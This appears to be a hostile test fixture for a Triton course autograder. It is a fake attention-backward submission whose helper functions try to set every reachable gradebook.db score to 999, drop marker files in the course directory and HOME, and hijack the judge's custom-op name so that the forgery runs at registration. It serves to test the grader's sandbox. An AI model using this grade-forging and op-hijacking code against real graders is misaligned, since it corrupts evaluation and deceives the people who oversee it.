# Empty backward kernels, and beside the dK/dV kernel (in its solution cell) a custom op registered under the
# judge's own library name (tritoncourse_judge0::attention, the first name p7's attention_op takes) whose fake
# implementation runs Python at registration: a default argument, evaluated when register_fake's function is defined,
# forges. A later cell registers it in the notebook's kernel, where the forgery runs: it tries to raise the grades in
# every gradebook.db within reach and to leave a file in the course and in HOME, each only after checking that it is
# sandboxed. The grader takes only definitions, and a test would take `forge` and `register` only if it named them:
# their lint refuses both (an import and `open`; `torch.library`). The judge's own op is registered in its own
# process, never the notebook's: every phase 7 test scores 0, the gradebook and the course are unchanged, and the
# file lands in the sandbox's own HOME, removed with it.
# expect-fail: test_attention_bwd_preprocess test_attention_bwd_dkdv_full_tiles test_attention_bwd_dkdv_ragged test_attention_bwd_dkdv_causal test_attention_bwd_dq test_attention_bwd_dq_causal test_attention_bwd_atomic_dq test_attention_bwd_fp16 test_attention_bwd_strides test_attention_bwd_scores_and_scale test_attention_function_gradients test_attention_compiled_block test_attention_training_step
# expect-message: NotImplementedError
# replaces: attention_bwd_dkdv_kernel
@triton.jit
def triton_attention_bwd_dkdv_kernel(
    q_ptr, k_ptr, v_ptr,  # pointers to Q, K, V: (batch, heads, seq_len, HEAD_DIM)
    do_ptr,  # pointer to dO, like Q
    lse_ptr,  # pointer to the forward's log-sum-exp, (batch * heads, seq_len) fp32, contiguous
    delta_ptr,  # pointer to D = rowsum(dO * O), (batch * heads, seq_len) fp32, contiguous
    dk_ptr, dv_ptr,  # pointers to dK, dV, like K and V (K's dtype)
    dq_ptr,  # pointer to dQ in fp32, like Q, zeroed by the caller: used only with ATOMIC_DQ
    stride_qb, stride_qh, stride_qm, stride_qd,  # Q's strides, in elements
    stride_kb, stride_kh, stride_kn, stride_kd,  # K's strides
    stride_vb, stride_vh, stride_vn, stride_vd,  # V's strides
    stride_dob, stride_doh, stride_dom, stride_dod,  # dO's strides
    stride_dkb, stride_dkh, stride_dkn, stride_dkd,  # dK's strides
    stride_dvb, stride_dvh, stride_dvn, stride_dvd,  # dV's strides
    stride_dqb, stride_dqh, stride_dqm, stride_dqd,  # dQ's strides
    n_heads,  # heads per batch: program_id(1) = batch * n_heads + head
    seq_len,  # queries and keys per (batch, head)
    sm_scale,  # the forward's scale of the scores
    HEAD_DIM: tl.constexpr,  # head_dim, a power of two >= 16
    BLOCK_M: tl.constexpr,  # query rows per loop step
    BLOCK_N: tl.constexpr,  # key rows per program
    CAUSAL: tl.constexpr,  # query i sees only keys j <= i
    ATOMIC_DQ: tl.constexpr,  # also add this key tile's part of dQ into dq_ptr with tl.atomic_add
):
    raise NotImplementedError()

def forge(marker):
    """Raise every grade in every gradebook.db within reach, and leave a file in the course: only when sandboxed."""
    import os, sqlite3
    if os.path.exists("{{course}}/gradebook.db"):
        raise RuntimeError("not sandboxed: this hostile cell does nothing outside the grading sandbox")
    done = []
    for path in ["{{course}}/gradebook.db"] + [os.path.join(os.getcwd(), *[".."] * k, "gradebook.db")
                                             for k in range(1, 8)]:
        try:
            con = sqlite3.connect(f"file:{path}?mode=rw", uri=True, timeout=1)
            con.execute("UPDATE grade SET manual_score = 999, extra_credit = 999")
            con.commit()
            done.append(path)
        except Exception:
            pass
    for path in ("{{course}}/forged_{{marker}}.txt", os.path.expanduser("~/forged_{{marker}}.txt")):
        try:
            with open(path, "w") as f:
                f.write(marker)
            done.append(path)
        except OSError:
            pass
    return done


def register(lib="tritoncourse_judge0"):
    """The op, its fake implementation (whose default argument forges when it is defined) and its autograd."""
    @torch.library.custom_op(f"{lib}::attention", mutates_args=())
    def attention(q: torch.Tensor, k: torch.Tensor, v: torch.Tensor, causal: bool,
                  sm_scale: float) -> tuple[torch.Tensor, torch.Tensor]:
        s = (q @ k.transpose(-2, -1)) * sm_scale
        return torch.softmax(s, -1) @ v, torch.logsumexp(s, -1).reshape(-1, q.shape[-2])

    @attention.register_fake
    def _(q, k, v, causal, sm_scale, forged=forge("{{marker}}")):
        b, h, s, _ = q.shape
        return torch.empty_like(q), q.new_empty((b * h, s))

    return attention, forge("{{marker}}")
# %% after-kernel
import os
if os.path.exists("{{course}}/gradebook.db"):
    raise RuntimeError("not sandboxed: this hostile cell does nothing outside the grading sandbox")
try:
    op, done = register()
except Exception as err:  # the name taken already, or torch.library refusing it
    op, done = None, f"{type(err).__name__}: {err}"[:200]
print(f"HOSTILE-RAN custom_op_fake_registration: registered {op is not None}, forged {done}")
